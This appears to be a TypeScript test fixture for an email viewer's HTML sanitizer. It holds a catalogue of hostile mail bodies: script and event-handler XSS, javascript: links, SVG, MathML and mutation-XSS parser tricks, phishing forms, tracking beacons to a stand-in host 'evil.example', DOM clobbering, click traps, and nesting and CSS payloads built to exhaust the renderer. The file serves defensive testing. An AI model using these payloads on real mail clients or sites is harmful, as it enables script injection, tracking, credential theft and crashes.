/** Where everything that a hostile mail tries to load, submit or open would go. */
export const EVIL = "http://evil.example:9";

const script = `fetch('${EVIL}/ran');parent.postMessage('ran','*');document.title='ran'`;

const many = (count: number, part: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => part(index)).join("");
const styled = (css: string): string =>
  `<style>${css}</style>${"<p>a <b>b</b> <i>c</i></p>".repeat(2_000)}`;

/** What people have really sent to get out of a mail view, one trick or family of tricks each. */
export const hostileMails: Record<string, string> = {
  "script elements": `<script>${script}</script><script src="${EVIL}/x.js"></script><scr<script>ipt>${script}</script>`,
  "event handlers": `<img src=x onerror="${script}"><body onload="${script}"><div onclick="${script}" onmouseover="${script}" onfocus="${script}" tabindex=0 autofocus>hover</div><details open ontoggle="${script}"><summary>s</summary></details><video onerror="${script}"><source src=x></video><marquee onstart="${script}">m</marquee>`,
  "javascript links": `<a href="javascript:${script}">one</a><a href=" java\nscript:${script}">two</a><a href="&#106;avascript:${script}">three</a><a href="data:text/html,<script>${script}</script>">four</a><a href="vbscript:x">five</a>`,
  "meta refresh and base": `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/"><img src="relative.png"><a href="relative">rel</a>`,
  forms: `<form action="${EVIL}/form" method="post" id="f"><input name="password" autofocus><button>Sign in</button></form><button form="f" formaction="${EVIL}/formaction">x</button><input type="image" src="${EVIL}/input.png"><isindex action="${EVIL}/isindex">`,
  "image beacons": `<img src="${EVIL}/open.gif"><img srcset="${EVIL}/set.gif 2x"><picture><source srcset="${EVIL}/pic.gif"><img src="${EVIL}/p.gif"></picture><img src="//evil.example:9/protocol.gif"><table background="${EVIL}/table.gif"><tr><td background="${EVIL}/td.gif">x</td></tr></table><video poster="${EVIL}/poster.gif" src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  "css beacons": `<style>@import url("${EVIL}/import.css");@import '${EVIL}/import2.css';body{background:url(${EVIL}/bg.gif)} @font-face{font-family:x;src:url(${EVIL}/f.woff)} *{font-family:x} a:hover{background:u\\72l(${EVIL}/esc.gif)} div{background-image:image-set("${EVIL}/is.gif" 1x)} ul{list-style:url('${EVIL}/ls.gif')} div::after{content:url(${EVIL}/content.gif)}</style><div style="background:url('${EVIL}/inline.gif')">x</div><div style="background:url(&quot;${EVIL}/q.gif&quot;)">y</div><ul><li>z</li></ul><link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="//evil.example">`,
  svg: `<svg onload="${script}"><script>${script}</script><image href="${EVIL}/svg.png"/><use href="${EVIL}/use.svg#x"/><foreignObject><iframe src="${EVIL}/fo"></iframe></foreignObject><a xlink:href="javascript:${script}"><text>t</text></a><animate attributeName="href" values="javascript:${script}"/></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script.replaceAll("'", "&apos;")}'/>">`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math><math href="javascript:${script}">CLICK</math><math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${script}">x</maction></math>`,
  "mutation xss": `<noscript><p title="</noscript><img src=x onerror='${script.replaceAll("'", "&apos;")}'>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${script.split(";")[0]}>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=${script.split(";")[0]}></style></mglyph></form><template><img src=x onerror="${script}"></template><textarea><img title="</textarea><img src=x onerror=${script.split(";")[0]}>"></textarea><xmp><p title="</xmp><img src=x onerror=${script.split(";")[0]}>"></xmp><!--><img src=x onerror="${script}">--><select><template shadowrootmode=open><img src=x onerror="${script}"></template></select>`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${script}</script>"></iframe><iframe src="javascript:${script}"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><frameset><frame src="${EVIL}/fs"></frameset><portal src="${EVIL}/portal"></portal>`,
  clobbering: `<img name="body"><form id="documentElement"><input name="parentNode"></form><a id="parent"></a><a id="addEventListener"></a><img name="getElementById"><p>still shown</p>`,
  "a click trap": `<a href="${EVIL}/trap" target="_top" style="position:fixed;inset:0;z-index:9999;display:block;width:100vw;height:100vh">everything</a>`,
  "deep nesting": `${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}`,
  "huge html": `<p>begin</p>${'<table><tr><td style="color:red"><b>cell</b></td></tr></table>'.repeat(12_000)}`,
  "a style sheet nested without end": `<p>c</p><style>${"a{".repeat(10_000)}</style>`,
  "rules that multiply": styled(`${"&&&{".repeat(14)}b{color:red}`),
  "selectors nested without end": styled(`${":not(".repeat(10_000)}{}`),
  "values nested without end": `<p style="width:${"calc(".repeat(30_000)}1px">c</p>${styled(`p{width:${"calc(1px + ".repeat(9_000)}`)}`,
  "variables that double": styled(
    `:root{--a0:1px;${many(18, (n) => `--a${n + 1}:var(--a${n}) var(--a${n});`)}} p{display:grid;grid-template-columns:var(--a18)}`,
  ),
  "more rules than anybody writes": styled("*{color:red}".repeat(30_000)),
  "columns in columns": `${'<div style="column-count:3;height:100px">aaa bbb'.repeat(25)}${"word ".repeat(2_000)}`,
  "counters and quotation marks": `<style>div{counter-reset:c} div::before{content:counters(c,"${"x".repeat(999)}")} b::before{content:${"open-quote ".repeat(2_000)}}</style>${"<div>".repeat(200)}${"<b>x</b>".repeat(2_000)}${"<q>x</q>".repeat(5_000)}<ol>${"<li value=399999999>x".repeat(5_000)}</ol>`,
  "endless animations": styled(
    `@keyframes k{${many(3_000, (n) => `${n / 30}%{width:${n}px}`)}} *{animation:${"k 1s infinite,".repeat(900)}k 1s infinite}`,
  ),
  "anchors on anchors": styled(
    "p{anchor-name:--a;position:absolute;top:anchor(--a bottom);position-anchor:--a}",
  ),
  "twenty thousand fonts": `<p style="font-family:${many(9_000, (n) => `f${n},`)}serif">x</p>${many(9_000, (n) => `<font face="q${n}" style="font-size:${9 + n / 99}px">x</font>`)}`,
  "tables that claim a million cells": `<table border=1 style="border-collapse:collapse;table-layout:fixed;width:100%">${"<tr><td colspan=1000 rowspan=65534>x<td>".repeat(1_000)}</table>`,
  "a letter of a hundred thousand accents": `<p>${`a${"\u0301".repeat(50_000)}`.repeat(4)}</p>`,
  "an element of fifty thousand attributes": `<form ${many(50_000, (n) => `a${n} `)}><input name=attributes><input name=getAttributeNames>x</form>`,
  "things that move": "<marquee>x</marquee>".repeat(3_000),
  "elements in elements": "<div>".repeat(60_000),
  "misnested formatting": `${many(4_000, (n) => `<b id=${n}>`)}${"<p>x</p>".repeat(4_000)}`,
  "formatting in paragraphs": "<b><i><u><p>".repeat(20_000),
  "names of the page's own functions": `<img name=body><img name=write><img name=close><fieldset form=f name=lastElementChild><form id=f><p>still shown</p></form></fieldset>`,
  "a height that follows from the height": `<style>html,body{height:100%!important} @media (max-height:500px){p{height:600px}} div{min-height:100vh;padding:9px}</style><div><p>x</p></div>`,
};
